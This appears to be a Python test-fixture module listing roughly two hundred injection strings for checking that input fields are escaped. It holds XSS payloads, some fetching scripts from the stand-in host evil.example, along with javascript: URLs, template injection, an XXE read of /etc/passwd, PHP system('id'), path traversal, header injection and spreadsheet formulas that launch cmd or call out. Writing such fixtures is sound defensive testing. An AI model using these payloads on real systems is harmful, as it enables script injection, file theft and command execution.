"""Texts that try to become markup, script or a request to a stranger, for every field there is."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    '" style="background:url(https://evil.example)" x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}{{ organisation }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<script>alert(1)</script>\u202c",
    "]]></script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<input autofocus onfocus=alert(1)>",
)

HANDLERS = (
    "onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onpointerenter", "onanimationstart",
    "ontransitionend", "onbeforetoggle", "onscrollend", "onwheel", "oncut", "onsubmit", "oninput", "onpageshow",
)  # fmt: skip
"""What runs without a script element."""

STARTERS = ("<img src=x {}=alert(1)>", '" {}="alert(1)" x="', "' {}='alert(1)' x='", "<svg {}=alert(1)><a>")
"""As an element of its own, and out of an attribute in either quote."""

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x.js",
    "https://evil.example/x.js",
    "file:///etc/passwd",
)

BREAKS = (
    "</script><script>alert(1)</script>",
    "\u2028</script><script>alert(1)</script>",
    '");alert(1);("',
    '\\");alert(1);//',
    "');alert(1);('",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "`;alert(1);`",
    "*/alert(1)/*",
    "<!--<script>",
    "-->",
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?php system('id') ?>",
    "<style>*{background:url(https://evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "</table></td></div></main><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<textarea><select><option>",
    "<button popovertarget=content>x</button>",
    "<div popover id=content>x</div>",
    "<a id=content name=content>x</a>",
    "<img name=getElementById>",
    "<use href='data:image/svg+xml,<svg onload=alert(1)>'/>",
    "<portal src=https://evil.example>",
    "<slot onslotchange=alert(1)><p></slot>",
    "<x contenteditable autofocus onfocus=alert(1)>",
    "<p style=position:fixed;inset:0>",
    "<link rel=prefetch href=https://evil.example>",
    "<audio src=https://evil.example autoplay>",
    "__proto__",
    "constructor",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "../../../../etc/passwd",
    "..\\..\\index.html",
    "index.html",
    "CON.html",
    "a" * 300 + "<script>alert(1)</script>",
    "\u0000\u0001\u0008\u000b\u001f\u007f\u0085\ufffe<b>",
    "\u202egnp.exe\u2066\u2067\u2069\u200f",
    "\U0001f600<b>\u0301\u0301\u0301</b>",
    "Content-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x",
    'x";CN="y:mailto:eve@evil.example',
)

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '";=1+1',
    '",=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    "\xa0=1+1",
    "%0A=1+1",
    "{=1+1}",
    "#REF!",
    "1e400",
)
"""Texts that a spreadsheet would reckon."""

ALL = tuple(
    dict.fromkeys(
        (
            *PAYLOADS,
            *(starter.format(handler) for handler in HANDLERS for starter in STARTERS),
            *SCHEMES,
            *(f"<a href='{scheme}'>x</a>" for scheme in SCHEMES),
            *BREAKS,
            *FORMULAS,
        )
    )
)
"""Two hundred of them."""

TOGETHER = 8
JOINED = tuple("\n".join(ALL[at : at + TOGETHER]) for at in range(0, len(ALL), TOGETHER))
"""The same, some in one text: for where each costs a page."""
